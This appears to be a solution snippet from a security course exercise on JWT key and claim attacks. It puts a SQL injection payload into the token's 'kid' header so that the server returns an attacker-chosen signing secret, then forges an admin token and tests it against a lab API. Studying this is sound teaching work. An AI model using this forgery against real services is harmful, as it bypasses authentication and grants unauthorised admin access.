# Solution: 11-key-and-claim-attacks, exercise 3
my_secret = 'a secret I chose, long enough for HS256'
header = {'alg': 'HS256', 'typ': 'JWT', 'kid': f"nobody' UNION SELECT '{my_secret}"}
forged_6b = forge_hmac(header, admin_claims, my_secret)

check_attack('kid sql', forged_6b, kid_sql_api, safe)
